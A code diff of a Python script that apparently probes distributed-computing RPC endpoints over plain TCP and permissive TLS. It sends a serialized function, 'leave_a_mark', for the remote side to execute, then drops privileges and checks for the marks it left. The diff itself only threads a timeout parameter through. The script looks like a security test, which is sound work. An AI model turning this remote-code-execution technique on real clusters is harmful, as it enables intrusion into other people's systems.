@@ -45,19 +45,23 @@ def careless_context(certificate: str = "", key: str = "") -> ssl.SSLContext:
     return context
 
 
-async def give_work(address: str, connection: dict[str, Any], operation: str, folder: str) -> None:
+async def give_work(
+    address: str, connection: dict[str, Any], operation: str, folder: str, patience: float
+) -> None:
     with suppress(Exception):
-        async with rpc(address, connection_args=connection, timeout=PATIENCE_S) as remote:
+        async with rpc(address, connection_args=connection, timeout=patience) as remote:
             arguments = {"function": dumps(leave_a_mark), "args": dumps((folder,)), "kwargs": dumps({})}
-            await asyncio.wait_for(getattr(remote, operation)(**arguments, wait=True), PATIENCE_S)
+            await asyncio.wait_for(getattr(remote, operation)(**arguments, wait=True), patience)
 
 
-async def attack(ports: list[tuple[str, int]], contexts: list[ssl.SSLContext], folder: str) -> None:
+async def attack(
+    ports: list[tuple[str, int]], contexts: list[ssl.SSLContext], folder: str, patience: float
+) -> None:
     ways: list[tuple[str, dict[str, Any]]] = [("tcp", {})]
     ways += [("tls", {"ssl_context": context}) for context in contexts]
     await asyncio.gather(
         *(
-            give_work(f"{scheme}://{host}:{port}", connection, operation, folder)
+            give_work(f"{scheme}://{host}:{port}", connection, operation, folder, patience)
             for host, port in ports
             for scheme, connection in ways
             for operation in OPERATIONS
@@ -84,14 +88,14 @@ def main() -> None:
     own = Security.temporary()
     contexts = [careless_context(), careless_context(own.tls_client_cert, own.tls_client_key)]
     nobody = [("127.0.0.1", 1)]
-    asyncio.run(asyncio.wait_for(attack(nobody, contexts, folder), 60))  # imports what it takes: the other
+    asyncio.run(attack(nobody, contexts, folder, 0.2))  # imports what it takes: the other
     pages(nobody)  # user may have no access to the installation
     os.setgroups([])
     os.setgid(uid)
     os.setuid(uid)
     print("ready", flush=True)
     ports = [(host, port) for host, port in json.loads(sys.stdin.readline())]
-    asyncio.run(attack(ports, contexts, folder))
+    asyncio.run(attack(ports, contexts, folder, PATIENCE_S))
     print(json.dumps(pages(ports)))
 
 
